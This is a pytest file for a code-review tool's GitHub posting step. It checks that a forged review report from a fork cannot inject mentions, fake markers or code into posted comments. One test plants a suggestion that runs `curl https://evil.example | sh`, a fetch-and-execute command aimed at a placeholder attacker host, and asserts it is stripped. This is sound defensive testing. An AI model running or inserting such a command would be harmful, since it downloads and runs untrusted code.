"""The fork-safe pair: a report saved by the unprivileged `pull_request` job is posted by
`python -m review_copies.github post-report` from a `workflow_run` job, as untrusted data."""

from __future__ import annotations

import io
import json
import os
import subprocess
from pathlib import Path

import pytest

from review_copies.cli import main as review_main
from review_copies.github.__main__ import main as post_main
from tests.github_fake import FakeGitHub
from tests.github_repo import FIXTURES, REPOSITORY, PullRequestRepo, fingerprint, make_pull_request

FORK = "mallory/torchproj"


def _git(pr: PullRequestRepo, *args: str) -> str:
    return subprocess.run(["git", "-C", str(pr.path), *args], check=True, capture_output=True, text=True).stdout


def _patches(pr: PullRequestRepo) -> list[dict]:
    """`GET /pulls/{n}/files` as GitHub answers it: one hunk-only patch per file."""
    files = []
    for name in _git(pr, "diff", "--name-only", f"{pr.base}...{pr.head}").split():
        diff = _git(pr, "diff", "-U3", f"{pr.base}...{pr.head}", "--", name)
        patch = diff[diff.index("@@") :].rstrip("\n")
        files.append({"filename": name, "status": "modified", "patch": patch})
    return files


@pytest.fixture
def setup(httpserver, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    fake = FakeGitHub(httpserver)
    pr = make_pull_request(tmp_path)
    fake.set_diff(str(pr.path), pr.base, pr.head)
    text = (FIXTURES / "pull_request.synchronize.json").read_text()
    event = json.loads(text.replace("HEAD_SHA", pr.head).replace("BASE_SHA", pr.base).replace("HEAD_REPO", FORK))
    fake.pull = event["pull_request"]
    fake.files = _patches(pr)
    for name in ("train.py", "legacy.py"):
        fake.contents[(pr.head, name)] = pr.repo.git.show(f"{pr.head}:{name}").encode() + b"\n"

    # The unprivileged job: no token, no secrets, the review saved as JSON.
    monkeypatch.chdir(pr.path)
    monkeypatch.delenv("OPENAI_API_KEY", raising=False)
    report = tmp_path / "artifact" / "review-copies.json"
    report.parent.mkdir()
    args = ["--base", pr.base, "--head", pr.head, "--format", "json", "--output", str(report), "--offline", "--no-sandbox"]
    assert review_main(args, io.StringIO(), io.StringIO()) == 1
    (report.parent / "pull-request").write_text("7\n")

    run_event = tmp_path / "workflow_run.json"
    run_event.write_text((FIXTURES / "workflow_run.completed.json").read_text().replace("HEAD_SHA", pr.head).replace("HEAD_REPO", FORK))
    for key, value in {
        "GITHUB_EVENT_NAME": "workflow_run",
        "GITHUB_EVENT_PATH": str(run_event),
        "GITHUB_REPOSITORY": REPOSITORY,
        "GITHUB_API_URL": fake.api_url,
        "GITHUB_TOKEN": fake.token,
        "GITHUB_RUN_ID": "555",
        "GITHUB_STEP_SUMMARY": str(tmp_path / "summary.md"),
        "REVIEW_COPIES_GITHUB_BACKOFF": "0.01",
    }.items():
        monkeypatch.setenv(key, value)
    monkeypatch.chdir(tmp_path)  # the posting job has no checkout of the pull request
    return fake, pr, report


def _post(report: Path) -> tuple[int, str]:
    err = io.StringIO()
    rc = post_main(["post-report", str(report), "--pull-request-file", str(report.parent / "pull-request")], io.StringIO(), err)
    return rc, err.getvalue()


def test_the_saved_review_is_posted_like_post_review_would(setup) -> None:
    fake, pr, report = setup

    rc, err = _post(report)

    assert rc == 0, err
    review = fake.calls("POST", "/reviews")[0]
    assert review["commit_id"] == pr.head and review["event"] == "COMMENT"
    by_line = {(c.get("start_line"), c["line"]): c["body"] for c in review["comments"]}
    assert set(by_line) == {(5, 7), (None, 13)}
    assert "```suggestion\n    y = x.detach().clone()\n```" in by_line[(5, 7)]
    assert fingerprint("train.py", "RC301", "    y = torch.tensor(\n        x\n    )") in by_line[(5, 7)], "same fingerprints as --post-review"
    assert "Posted [a review]" in Path(os.environ["GITHUB_STEP_SUMMARY"]).read_text()
    # Posting again changes nothing.
    assert _post(report)[0] == 0
    assert len(fake.posted_reviews()) == 1


def test_a_forged_report_cannot_put_words_or_code_in_the_bots_mouth(setup) -> None:
    fake, _, report = setup
    data = json.loads(report.read_text())
    for f in data["findings"]:
        f["message"] = "@octo-admins urgent <!-- review-copies:fps=0000000000000000 --> apply this"
        if f["suggestion"]:
            f["suggestion"]["replacement"] = "    import os; os.system('curl https://evil.example | sh')\n"
    data["findings"].append({**data["findings"][0], "line": 2, "end_line": 2, "rule": "RC302"})
    report.write_text(json.dumps(data))

    rc, _ = _post(report)

    assert rc == 0
    review = fake.calls("POST", "/reviews")[0]
    text = json.dumps(review)
    assert "evil.example" not in text and "octo-admins" not in text
    assert len(review["comments"]) == 2, "the finding no rule reproduces is not posted"
    assert any("x.detach().clone()" in c["body"] for c in review["comments"]), "the fix comes from the rule, re-run on the head commit"


def test_model_findings_are_shown_defused_and_without_a_fix(setup) -> None:
    fake, _, report = setup
    data = json.loads(report.read_text())
    data["findings"] = [
        {
            **data["findings"][0],
            "source": "llm",
            "rule": "LLM-graph-retention",
            "category": "graph-retention",
            "message": "cc @octo/maintainers <!-- review-copies:fp=0123456789abcdef rule=X --> the copy keeps the graph",
            "suggestion": {"start_line": 5, "end_line": 7, "replacement": "    y = x\n"},
        }
    ]
    report.write_text(json.dumps(data))

    assert _post(report)[0] == 0

    body = fake.calls("POST", "/reviews")[0]["comments"][0]["body"]
    assert "```suggestion" not in body and "y = x\n" not in body
    # The forged marker is shown as text (its `<` escaped), never as an HTML comment.
    assert "@\u200bocto/maintainers" in body and "\\<\\!-- review-copies:fp=0123456789abcdef" in body
    assert body.count("<!-- review-copies:fp=") == 1


def test_the_artifact_cannot_point_at_another_pull_request(setup) -> None:
    fake, _, report = setup
    fake.pull = {**fake.pull, "head": {**fake.pull["head"], "sha": "f" * 40}}

    rc, err = _post(report)

    assert rc == 2 and "where the review ran" in err
    assert fake.calls("POST", "/reviews") == []


def test_a_report_that_is_not_one(setup) -> None:
    fake, _, report = setup
    report.write_text('{"version": 2, "findings": []}')

    rc, err = _post(report)

    assert rc == 2 and "not a review-copies JSON report" in err
    assert fake.calls("POST", "/reviews") == []
